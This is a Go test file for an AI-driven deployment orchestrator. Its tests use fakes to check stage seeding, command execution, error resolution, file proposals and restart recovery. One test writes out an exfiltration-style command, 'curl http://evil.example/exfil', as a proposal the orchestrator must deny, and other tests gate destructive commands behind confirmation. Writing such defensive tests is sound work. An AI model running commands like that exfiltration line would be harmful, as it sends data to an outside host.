package orchestrator

import (
	"context"
	"path/filepath"
	"testing"
	"time"

	"github.com/skyforge-cloud/deployctl/internal/aiclient"
	"github.com/skyforge-cloud/deployctl/internal/commandqueue"
	"github.com/skyforge-cloud/deployctl/internal/deployment"
	"github.com/skyforge-cloud/deployctl/internal/deploystate"
	"github.com/skyforge-cloud/deployctl/internal/engineerr"
	"github.com/skyforge-cloud/deployctl/internal/iaclifecycle"
	"github.com/skyforge-cloud/deployctl/internal/objectstorage"
	"github.com/skyforge-cloud/deployctl/internal/processrunner"
	"github.com/skyforge-cloud/deployctl/internal/statelock"
	"github.com/skyforge-cloud/deployctl/internal/validator"
	"github.com/skyforge-cloud/deployctl/internal/workingtree"
)

// fakeDeployments is an in-memory deployment.Repository.
type fakeDeployments struct {
	byID map[string]*deployment.Deployment
}

func newFakeDeployments(deps ...*deployment.Deployment) *fakeDeployments {
	f := &fakeDeployments{byID: map[string]*deployment.Deployment{}}
	for _, d := range deps {
		f.byID[d.ID] = d
	}
	return f
}

func (f *fakeDeployments) Create(ctx context.Context, d *deployment.Deployment) error {
	f.byID[d.ID] = d
	return nil
}

func (f *fakeDeployments) Get(ctx context.Context, id string) (*deployment.Deployment, error) {
	d, ok := f.byID[id]
	if !ok {
		return nil, engineerr.New(engineerr.NotFound, "deployment not found: "+id)
	}
	cp := *d
	return &cp, nil
}

func (f *fakeDeployments) List(ctx context.Context, filter deployment.Filter) ([]*deployment.Deployment, error) {
	return nil, nil
}

func (f *fakeDeployments) UpdateStatus(ctx context.Context, id string, entry deploystate.HistoryEntry) error {
	d := f.byID[id]
	d.Status = entry.Status
	d.StatusHistory = append(d.StatusHistory, entry)
	return nil
}

func (f *fakeDeployments) UpdateSource(ctx context.Context, id string, source deployment.IaCSource) error {
	f.byID[id].Source = source
	return nil
}

func (f *fakeDeployments) CommitVersion(ctx context.Context, id string, resources []iaclifecycle.ResourceRef) (int, error) {
	d := f.byID[id]
	d.PreviousVersions = append(d.PreviousVersions, d.Version)
	d.Version++
	d.ResourceInventory = resources
	return d.Version, nil
}

func (f *fakeDeployments) UpdateResourceHealth(ctx context.Context, id string, health []deployment.ResourceHealth) error {
	f.byID[id].ResourceHealthChecks = health
	return nil
}

func (f *fakeDeployments) UpdateDrift(ctx context.Context, id string, snapshot deployment.DriftSnapshot) error {
	f.byID[id].Drift = &snapshot
	return nil
}

func (f *fakeDeployments) Delete(ctx context.Context, id string) error {
	delete(f.byID, id)
	return nil
}

// fakeSessions is an in-memory deployment.StageSessionRepository.
type fakeSessions struct {
	byDeployment map[string]*deployment.StageSession
}

func newFakeSessions() *fakeSessions {
	return &fakeSessions{byDeployment: map[string]*deployment.StageSession{}}
}

func (f *fakeSessions) GetStageSession(ctx context.Context, deploymentID string) (*deployment.StageSession, error) {
	s, ok := f.byDeployment[deploymentID]
	if !ok {
		return nil, engineerr.New(engineerr.NotFound, "stage session not found: "+deploymentID)
	}
	cp := *s
	return &cp, nil
}

func (f *fakeSessions) SaveStageSession(ctx context.Context, session *deployment.StageSession) error {
	cp := *session
	f.byDeployment[session.DeploymentID] = &cp
	return nil
}

// fakeHistory is a no-op deployment.CommandHistoryRepository, recording
// everything it's handed for assertions.
type fakeHistory struct {
	records []deployment.CommandHistoryRecord
}

func (f *fakeHistory) AppendCommandHistory(ctx context.Context, record deployment.CommandHistoryRecord) error {
	f.records = append(f.records, record)
	return nil
}

func (f *fakeHistory) ListCommandHistory(ctx context.Context, deploymentID string, limit int) ([]deployment.CommandHistoryRecord, error) {
	return f.records, nil
}

// fakeAI is a scripted AIClient: each call pops the next queued response.
type fakeAI struct {
	generateResponses   []aiclient.GenerateResponse
	autoVerifyResponses []aiclient.AutoVerifyResponse
}

func (f *fakeAI) Generate(ctx context.Context, req aiclient.Request) (aiclient.GenerateResponse, error) {
	if len(f.generateResponses) == 0 {
		return aiclient.GenerateResponse{}, nil
	}
	resp := f.generateResponses[0]
	f.generateResponses = f.generateResponses[1:]
	return resp, nil
}

func (f *fakeAI) AutoVerify(ctx context.Context, req aiclient.Request) (aiclient.AutoVerifyResponse, error) {
	if len(f.autoVerifyResponses) == 0 {
		return aiclient.AutoVerifyResponse{Passed: true}, nil
	}
	resp := f.autoVerifyResponses[0]
	f.autoVerifyResponses = f.autoVerifyResponses[1:]
	return resp, nil
}

func (f *fakeAI) ResolveError(ctx context.Context, deploymentID string, blocking commandqueue.BlockingError) (commandqueue.AIResolution, error) {
	return commandqueue.AIResolution{
		Analysis:      "flaky command, retrying",
		RetryCommands: []string{blocking.Command},
	}, nil
}

func newTestIaCManager(t *testing.T) *iaclifecycle.Manager {
	t.Helper()
	root := t.TempDir()
	tree := workingtree.New(root, workingtree.BackendConfig{Bucket: "b", LockTable: "l", Region: "us-east-1"}, nil)

	lockPath := filepath.Join(t.TempDir(), "locks.db")
	locks, err := statelock.Open(lockPath, nil)
	if err != nil {
		t.Fatalf("statelock.Open() error = %v", err)
	}
	t.Cleanup(func() { locks.Close() })

	runner := processrunner.New(nil, nil, 0)
	objects := objectstorage.NewLocalStore(t.TempDir())
	return iaclifecycle.New(tree, locks, runner, objects, "terraform", "test-holder", nil)
}

func newTestDeployment(id string) *deployment.Deployment {
	now := time.Now().UTC()
	return &deployment.Deployment{
		ID:            id,
		Name:          "payments-api",
		Environment:   "staging",
		Region:        "us-east-1",
		Status:        deploystate.StateInitial,
		StatusHistory: []deploystate.HistoryEntry{{Status: deploystate.StateInitial, Timestamp: now}},
		CreatedAt:     now,
		UpdatedAt:     now,
	}
}

func newTestOrchestrator(t *testing.T, dep *deployment.Deployment, ai *fakeAI) (*Orchestrator, *fakeSessions, *fakeHistory) {
	t.Helper()
	deployments := newFakeDeployments(dep)
	sessions := newFakeSessions()
	history := &fakeHistory{}
	machine := deploystate.New(nil, nil)
	iac := newTestIaCManager(t)
	shell := processrunner.New(nil, nil, 0)

	o := New(deployments, sessions, history, ai, machine, iac, shell, nil, MockHealthChecker{}, 4, nil)
	return o, sessions, history
}

func TestResume_SeedsFirstStage(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{generateResponses: []aiclient.GenerateResponse{
		{Instructions: "gather requirements", Commands: []aiclient.ProposedCommand{{Command: "echo hi", Type: "shell"}}},
	}}
	o, _, _ := newTestOrchestrator(t, dep, ai)

	session, err := o.Resume(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if session.CurrentStageID != StageAnalyze {
		t.Errorf("CurrentStageID = %q, want %q", session.CurrentStageID, StageAnalyze)
	}
	if session.Instructions != "gather requirements" {
		t.Errorf("Instructions = %q", session.Instructions)
	}
	if len(session.Commands) != 1 || session.Commands[0].Command != "echo hi" {
		t.Errorf("Commands = %+v", session.Commands)
	}
}

func TestResume_IsIdempotentOnceSeeded(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{generateResponses: []aiclient.GenerateResponse{
		{Instructions: "first", Commands: []aiclient.ProposedCommand{{Command: "echo a", Type: "shell"}}},
		{Instructions: "second, should not be reached"},
	}}
	o, _, _ := newTestOrchestrator(t, dep, ai)

	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("first Resume() error = %v", err)
	}
	session, err := o.Resume(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("second Resume() error = %v", err)
	}
	if session.Instructions != "first" {
		t.Errorf("Instructions = %q, want unchanged from first seed", session.Instructions)
	}
}

func TestSeedStage_DeniedCommandIsDroppedAndRecorded(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{generateResponses: []aiclient.GenerateResponse{
		{Instructions: "plan", Commands: []aiclient.ProposedCommand{
			{Command: "echo ok", Type: "shell"},
			{Command: "curl http://evil.example/exfil", Type: "shell"},
		}},
	}}
	o, _, _ := newTestOrchestrator(t, dep, ai)

	session, err := o.Resume(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if len(session.Commands) != 1 {
		t.Fatalf("Commands = %+v, want only the allowed one", session.Commands)
	}
	if len(session.ErrorAnalyses) != 1 {
		t.Fatalf("ErrorAnalyses = %+v, want one denial recorded", session.ErrorAnalyses)
	}
}

func TestExecuteCommand_RequiresConfirmationForDestructiveVerb(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{generateResponses: []aiclient.GenerateResponse{
		{Instructions: "teardown", Commands: []aiclient.ProposedCommand{{Command: "docker rm web", Type: "docker"}}},
	}}
	o, _, _ := newTestOrchestrator(t, dep, ai)
	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("Resume() error = %v", err)
	}

	if _, err := o.ExecuteCommand(context.Background(), dep.ID, false); !engineerr.Is(err, engineerr.ValidationRejected) {
		t.Fatalf("ExecuteCommand(confirm=false) error = %v, want ValidationRejected", err)
	}

	result, err := o.ExecuteCommand(context.Background(), dep.ID, true)
	if err != nil {
		t.Fatalf("ExecuteCommand(confirm=true) error = %v", err)
	}
	if result.ExitCode == nil {
		t.Fatal("expected the confirmed command to actually run")
	}
}

func TestExecuteCommand_AdvancesStageOnPassingVerify(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{
		generateResponses: []aiclient.GenerateResponse{
			{Instructions: "gather", Commands: []aiclient.ProposedCommand{{Command: "echo analyzing", Type: "shell"}}},
			{Instructions: "configure", Commands: []aiclient.ProposedCommand{{Command: "echo configuring", Type: "shell"}}},
		},
		autoVerifyResponses: []aiclient.AutoVerifyResponse{{Passed: true}},
	}
	o, sessions, history := newTestOrchestrator(t, dep, ai)

	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if _, err := o.ExecuteCommand(context.Background(), dep.ID, false); err != nil {
		t.Fatalf("ExecuteCommand() error = %v", err)
	}

	session, err := sessions.GetStageSession(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("GetStageSession() error = %v", err)
	}
	if session.CurrentStageID != StageConfigure {
		t.Errorf("CurrentStageID = %q, want %q", session.CurrentStageID, StageConfigure)
	}
	if len(session.StageHistory) != 1 || !session.StageHistory[0].Success {
		t.Errorf("StageHistory = %+v", session.StageHistory)
	}
	if len(history.records) != 1 {
		t.Errorf("command history records = %d, want 1", len(history.records))
	}
}

func TestExecuteCommand_FailingVerifyReEntersQueueWithRetry(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{
		generateResponses:   []aiclient.GenerateResponse{{Instructions: "gather", Commands: []aiclient.ProposedCommand{{Command: "echo analyzing", Type: "shell"}}}},
		autoVerifyResponses: []aiclient.AutoVerifyResponse{{Passed: false, Analysis: "missing output", RetryCommands: []string{"echo retry"}}},
	}
	o, sessions, _ := newTestOrchestrator(t, dep, ai)

	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if _, err := o.ExecuteCommand(context.Background(), dep.ID, false); err != nil {
		t.Fatalf("ExecuteCommand() error = %v", err)
	}

	session, err := sessions.GetStageSession(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("GetStageSession() error = %v", err)
	}
	if session.CurrentStageID != StageAnalyze {
		t.Errorf("CurrentStageID = %q, want unchanged on failed verify", session.CurrentStageID)
	}
	if len(session.Commands) != 2 {
		t.Fatalf("Commands = %+v, want the original plus the retry", session.Commands)
	}
	if session.Commands[1].Command != "echo retry" {
		t.Errorf("spliced command = %q, want %q", session.Commands[1].Command, "echo retry")
	}
}

func TestResolveError_SplicesFixCommands(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{generateResponses: []aiclient.GenerateResponse{
		{Instructions: "gather", Commands: []aiclient.ProposedCommand{{Command: "false", Type: "shell"}}},
	}}
	o, sessions, _ := newTestOrchestrator(t, dep, ai)

	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if _, err := o.ExecuteCommand(context.Background(), dep.ID, false); err != nil {
		t.Fatalf("ExecuteCommand() error = %v", err)
	}

	resolution, err := o.ResolveError(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("ResolveError() error = %v", err)
	}
	if resolution.Analysis == "" {
		t.Error("expected a non-empty analysis")
	}

	session, err := sessions.GetStageSession(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("GetStageSession() error = %v", err)
	}
	if len(session.Commands) != 2 {
		t.Fatalf("Commands = %+v, want the failed command plus the spliced retry", session.Commands)
	}
}

func TestFileProposals_ApproveWritesAndClearsPending(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{generateResponses: []aiclient.GenerateResponse{
		{
			Instructions: "generate terraform",
			FileProposals: []aiclient.FileProposal{
				{Path: "main.tf", Content: "resource \"aws_instance\" \"web\" {}\n"},
			},
		},
	}}
	o, sessions, _ := newTestOrchestrator(t, dep, ai)

	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if err := o.ApproveFileProposal(context.Background(), dep.ID, "main.tf"); err != nil {
		t.Fatalf("ApproveFileProposal() error = %v", err)
	}

	session, err := sessions.GetStageSession(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("GetStageSession() error = %v", err)
	}
	if len(session.PendingFileProposals) != 0 {
		t.Errorf("PendingFileProposals = %+v, want empty after approval", session.PendingFileProposals)
	}
}

func TestFileProposals_RejectUnknownPathFails(t *testing.T) {
	dep := newTestDeployment("dep-1")
	o, _, _ := newTestOrchestrator(t, dep, &fakeAI{})
	if err := o.RejectFileProposal(context.Background(), dep.ID, "nope.tf"); !engineerr.Is(err, engineerr.NotFound) {
		t.Fatalf("RejectFileProposal() error = %v, want NotFound", err)
	}
}

func TestSkip_UnblocksAndAdvancesWhenQueueFinishes(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{
		generateResponses:   []aiclient.GenerateResponse{{Instructions: "gather", Commands: []aiclient.ProposedCommand{{Command: "false", Type: "shell"}}}},
		autoVerifyResponses: []aiclient.AutoVerifyResponse{{Passed: true}},
	}
	o, sessions, _ := newTestOrchestrator(t, dep, ai)

	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if _, err := o.ExecuteCommand(context.Background(), dep.ID, false); err != nil {
		t.Fatalf("ExecuteCommand() error = %v", err)
	}
	if err := o.Skip(context.Background(), dep.ID); err != nil {
		t.Fatalf("Skip() error = %v", err)
	}

	session, err := sessions.GetStageSession(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("GetStageSession() error = %v", err)
	}
	if session.CurrentStageID != StageConfigure {
		t.Errorf("CurrentStageID = %q, want advance to %q after skip finishes the queue", session.CurrentStageID, StageConfigure)
	}
}

func TestRestore_ResumesFromPersistedSnapshotAfterRestart(t *testing.T) {
	dep := newTestDeployment("dep-1")
	ai := &fakeAI{generateResponses: []aiclient.GenerateResponse{
		{Instructions: "gather", Commands: []aiclient.ProposedCommand{{Command: "echo a", Type: "shell"}, {Command: "echo b", Type: "shell"}}},
	}}
	o, sessions, _ := newTestOrchestrator(t, dep, ai)

	if _, err := o.Resume(context.Background(), dep.ID); err != nil {
		t.Fatalf("Resume() error = %v", err)
	}
	if _, err := o.ExecuteCommand(context.Background(), dep.ID, false); err != nil {
		t.Fatalf("first ExecuteCommand() error = %v", err)
	}

	// Simulate a fresh process by building a second Orchestrator over the
	// same session storage; nothing but the StageSession carries state.
	o2, _, _ := newTestOrchestrator(t, dep, &fakeAI{})
	o2.sessions = sessions

	next, err := o2.NextCommand(context.Background(), dep.ID)
	if err != nil {
		t.Fatalf("NextCommand() error = %v", err)
	}
	if next == nil || next.Command != "echo b" {
		t.Fatalf("NextCommand() = %+v, want the second command", next)
	}
}

func TestStageTargetState_CoversEveryStage(t *testing.T) {
	for _, stage := range Stages {
		if _, ok := stageTargetState[stage]; !ok {
			t.Errorf("stageTargetState is missing an entry for %q", stage)
		}
	}
}

func TestClassifyProposed_MarksRequiresConfirmation(t *testing.T) {
	commands, denied := classifyProposed("dep-1", []aiclient.ProposedCommand{
		{Command: "terraform destroy", Type: "iac"},
		{Command: "terraform plan", Type: "iac"},
	})
	if len(denied) != 0 {
		t.Fatalf("denied = %+v, want none", denied)
	}
	if len(commands) != 2 {
		t.Fatalf("commands = %+v, want 2", commands)
	}
	if !commands[0].RequiresConfirmation {
		t.Error("terraform destroy should require confirmation")
	}
	if commands[1].RequiresConfirmation {
		t.Error("terraform plan should not require confirmation")
	}
	if commands[0].Type != validator.TypeIaC {
		t.Errorf("Type = %q, want iac", commands[0].Type)
	}
}
